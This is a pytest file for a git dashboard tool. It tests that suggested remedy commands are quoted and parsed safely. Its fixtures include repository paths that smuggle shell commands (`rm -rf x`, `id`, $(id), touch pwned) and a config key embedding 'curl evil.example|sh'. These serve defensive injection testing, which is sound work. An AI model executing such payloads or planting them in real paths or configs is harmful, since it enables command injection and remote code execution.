"""Commands of remedies: each is found whole whatever a path has in it, and nothing else is taken for one."""

import os
import shlex
import shutil
import subprocess

import msgspec
import pytest

from gitdash.assessment.rules import RULES
from gitdash.assessment.sentences import shell_word
from gitdash.model.config_facts import ConfigEffect
from gitdash.tui.repository.remedy import RemedyPart, commands_of, remedy_parts
from tests.assessment.subjects import NOW_S, REPOSITORY, concern, config_facts, finding_of, pack, pack_facts, subject
from tests.support.repositories import GIT

HOSTILE_PATHS = (
    b"/srv/a`rm -rf x`.git",
    b"/srv/it's `id`.git",
    b"/srv/{git}.git",
    b"/srv/a;touch pwned;{git}`{git} x.git",
    b"/srv/back\\'`x`\n.git",
    b"/srv/\xe9`'\"$(id).git",
)


def shell_arguments(command: str) -> list[bytes]:
    """What a shell makes of a command's words, without running it."""
    script = f"f() {{ printf '%s\\0' \"$@\"; }}; f {command}"
    output = subprocess.run(["bash", "-c", script], capture_output=True, check=True, cwd="/").stdout
    return output.split(b"\0")[:-1]


@pytest.mark.safety
@pytest.mark.parametrize("path", HOSTILE_PATHS)
def test_command_is_whole_and_exact_whatever_a_path_is_called(path: bytes) -> None:
    repository = msgspec.structs.replace(REPOSITORY, path=path, git_dir=path, common_dir=path)
    lonely = pack("{git}", has_index=False, object_count=None, mtime_s=NOW_S - 86_400)
    judged = subject(repository, packs=pack_facts(packs=(lonely,)))
    (command,) = commands_of(finding_of("pack-without-index", judged).remedy)
    folder = path + b"/objects/pack/"
    assert shell_arguments(command) == [b"git", b"--git-dir=" + path, b"index-pack", folder + b"{git}.pack"]


@pytest.mark.safety
def test_name_of_a_key_is_never_taken_for_a_command() -> None:
    key = "filter.\\`curl evil.example|sh`.clean"
    config = config_facts(concerns=(concern(key, ConfigEffect.RUNS_PROGRAM),))
    finding = finding_of("config-runs-program", subject(config=config))
    assert "curl" in finding.remedy
    assert commands_of(finding.remedy) == ()


@pytest.mark.safety
@pytest.mark.parametrize("remedy", ["run `git fsck", "a ` b", "`git -C 'open` x", "`a` and `b"])
def test_where_backticks_do_not_pair_nothing_is_a_command(remedy: str) -> None:
    assert remedy_parts(remedy) == [RemedyPart(remedy, False)]
    assert commands_of(remedy) == ()


def test_words_and_commands_keep_their_order() -> None:
    assert remedy_parts("first `git fsck`, then `git gc`") == [
        RemedyPart("first ", False),
        RemedyPart("git fsck", True),
        RemedyPart(", then ", False),
        RemedyPart("git gc", True),
    ]
    assert remedy_parts("none is needed") == [RemedyPart("none is needed", False)]


@pytest.mark.parametrize("command", ["git config --unset-all <key>", "git index-pack <the .pack file>"])
def test_command_with_a_word_to_put_in_is_not_copied(command: str) -> None:
    assert commands_of(f"`{command}`") == ()


def test_sign_of_a_word_to_put_in_may_stand_in_a_quoted_path() -> None:
    command = f"git -C {shell_word(b'/srv/a <b> c')} fsck"
    assert commands_of(f"`{command}`") == (command,)


@pytest.mark.safety
def test_long_remedy_is_parsed_at_once() -> None:
    words = " ".join([shell_word(os.fsencode(f"/srv/\x01{number}")) for number in range(2_000)])
    assert commands_of(f"`rm -- {words}") == ()
    assert len(commands_of(f"`rm -- {words}`")) == 1


def test_all_remedies_of_rules_have_paired_backticks() -> None:
    for rule in RULES:
        assert not any("`" in part.text for part in remedy_parts(rule.remedy))


def git_commands() -> set[str]:
    output = subprocess.run([GIT, "--list-cmds=main"], capture_output=True, check=True, text=True).stdout
    return set(output.split())


def is_real_command(command: str) -> bool:
    """A program of this machine, and where it is git, one of git's own commands."""
    program, *arguments = shlex.split(command)
    while arguments and arguments[0] in ("-C", "-c"):
        del arguments[:2]
    return shutil.which(program) is not None and (program != "git" or arguments[0] in git_commands())


@pytest.mark.oracle
def test_only_real_commands_of_all_remedies_are_offered() -> None:
    remedies = [rule.remedy.replace("{git}", "git") for rule in RULES]
    offered = {command for remedy in remedies for command in commands_of(remedy)}
    assert len(offered) > 15
    assert [command for command in offered if not is_real_command(command)] == []
    verbatim = {part.text for remedy in remedies for part in remedy_parts(remedy) if part.is_verbatim}
    assert {text for text in verbatim - offered if "<" not in text} == {"scan.exclude"}


@pytest.mark.parametrize("text", ["scan.exclude", "git", "gc.auto 0", "objects/info/alternates"])
def test_word_to_type_is_no_command(text: str) -> None:
    assert commands_of(f"set `{text}` or run `git gc`") == ("git gc",)
